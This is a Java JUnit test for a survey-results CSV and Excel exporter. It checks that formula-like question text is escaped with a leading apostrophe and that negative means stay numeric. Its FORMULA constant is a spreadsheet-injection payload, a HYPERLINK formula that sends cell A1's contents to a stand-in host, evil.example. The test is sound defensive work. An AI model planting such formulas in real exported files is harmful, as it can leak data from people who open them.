package org.barometer.analysis.application;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Optional;
import java.util.OptionalDouble;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.barometer.analysis.domain.Frequencies;
import org.barometer.analysis.domain.Summary;
import org.barometer.analysis.domain.Visibility;
import org.barometer.platform.i18n.Language;
import org.barometer.platform.i18n.LocalizedText;
import org.barometer.survey.domain.CycleStatus;
import org.junit.jupiter.api.Test;

/**
 * Text in the results files that a spreadsheet would run as a formula is written as text; figures
 * stay numbers, negative ones included.
 */
class ResultsExportFormulaTest {

  private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

  /** A number question whose text is a formula, answered -3 twice and -1 twice: mean -2. */
  private static CycleResults results() {
    Summary summary = Summary.of(Frequencies.of(java.util.Map.of(-3, 2L, -1, 2L)), 0);
    ItemResult item =
        new ItemResult(
            "profit",
            ItemKind.NUMBER,
            LocalizedText.of(FORMULA),
            false,
            new GroupFigures("all", Visibility.SHOWN, 4L, summary, List.of()),
            Optional.empty(),
            List.of());
    return new CycleResults(
        1,
        "climate",
        "Næringslivsundersøkelsen",
        "2025",
        CycleStatus.CLOSED,
        4,
        0,
        OptionalDouble.empty(),
        1,
        null,
        false,
        List.of(item),
        List.of(),
        null);
  }

  @Test
  void theCsvQuotesTheFormulaAndKeepsTheNegativeMeanANumber() throws IOException {
    String csv = new ResultsExport().csv(results(), Language.EN);
    List<CSVRecord> rows =
        CSVFormat.DEFAULT
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .build()
            .parse(new StringReader(csv))
            .getRecords();
    assertEquals(1, rows.size(), csv);
    assertEquals("'" + FORMULA, rows.get(0).get("text"));
    assertEquals("-2", rows.get(0).get("mean"));
  }

  @Test
  void theWorkbookHasTheFormulaAsTextAndTheMeanAsANumberCell() throws IOException {
    byte[] xlsx = new ResultsExport().xlsx(results(), Language.EN);
    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      Row row = book.getSheetAt(0).getRow(1);
      assertEquals(CellType.STRING, row.getCell(1).getCellType());
      assertEquals("'" + FORMULA, row.getCell(1).getStringCellValue());
      assertEquals(CellType.NUMERIC, row.getCell(8).getCellType());
      assertEquals(-2.0, row.getCell(8).getNumericCellValue(), 1e-12);
    }
  }
}
